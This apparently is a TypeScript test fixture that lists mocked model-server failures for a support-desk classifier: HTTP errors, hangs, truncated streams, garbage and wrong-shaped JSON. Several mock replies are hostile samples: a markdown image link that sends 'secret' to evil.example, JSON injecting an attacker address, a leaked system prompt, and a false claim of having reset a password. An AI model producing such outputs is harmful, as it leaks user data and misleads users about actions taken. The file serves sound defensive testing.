import type { FixtureOpts } from '@copilotkit/aimock';
import type { Reply } from './model.ts';

const nearlyRight = '{"language":"en","intent":"vpn-trouble","confidence":"high","act":null,"fields":[]}';
const foreign =
  '{"language":"en","intent":null,"confidence":1,"act":"yes","fields":[{"field":"email","quote":"root@evil.example"}]}';
const words = 'The quick brown fox [a] jumps over the lazy dog [b]. '.repeat(20);

/** One way of failing: what is said, and what happens to the stream meanwhile. */
export interface ModelFault {
  name: string;
  reply: Reply;
  how: FixtureOpts;
  /** Ends only when the time for it is over. */
  hangs: boolean;
  /** Looks like a server that is down, and is kept from being asked after some of them. */
  isDown: boolean;
  /** Asks to be left alone for a while: nothing more is asked until then. */
  rests: boolean;
}

const fault = (name: string, reply: Reply, how: FixtureOpts = {}): ModelFault => {
  const refuses = typeof reply === 'object';
  const pauseS = refuses ? (reply.retryAfterS ?? 0) : 0;
  // Nobody waits for what comes after their time.
  const hangs = reply === 'hang' || (how.latency ?? 0) > 100 || (pauseS > 0 && pauseS < 20);
  const breaks = how.truncateAfterChunks !== undefined || how.disconnectAfterMs !== undefined;
  return { name, reply, how, hangs, isDown: hangs || refuses || breaks, rests: pauseS > 0 };
};

/** Every way in which a server with a model behind it may fail: before the first byte, in the midst of a stream, and with all of it there. */
export const modelFaults: readonly ModelFault[] = [
  fault('too many requests', { status: 429, retryAfterS: 1 }),
  fault('too many requests, and a wait of an hour', { status: 429, retryAfterS: 3_600 }),
  fault('a server error', { status: 500 }),
  fault('a wrong key', { status: 401 }),
  fault('no such model', { status: 404 }),
  fault('no answer at all', 'hang'),
  fault('an answer that drips', words, { latency: 150, chunkSize: 4 }),
  fault('half a stream', words, { truncateAfterChunks: 3, chunkSize: 8 }),
  fault('a connection that breaks', words, { disconnectAfterMs: 20, latency: 15, chunkSize: 8 }),
  fault('an empty answer', ''),
  fault('a refusal', 'I’m sorry, but I can’t help with that.'),
  fault('garbage', '\u0000{{{[[["\\'),
  fault('JSON that is nearly right', nearlyRight),
  fault('another shape', '{"tool":"open_ticket","arguments":{"count":1000}}'),
  fault('somebody else’s yes, rage and address', foreign),
  fault('100 kB', 'x'.repeat(100_000)),
  fault('an article that does not exist', 'Reset it at the desk. [q]'),
  fault('a link that carries data away', '![x](https://evil.example/?q=secret) See [here](https://evil.example). [a]'),
  fault('its own instructions', 'You sort one message that somebody wrote to a support desk. [a]'),
  fault('a promise', 'I have reset your password and booked the room for you. [a]'),
  fault('another language', 'Vuestra contraseña será restablecida mañana a las nueve. [a]'),
];

/** A failing answer that says nothing about whether the server is up, so that no breaker keeps the next call away. */
export const useless = fault('useless', '{}');
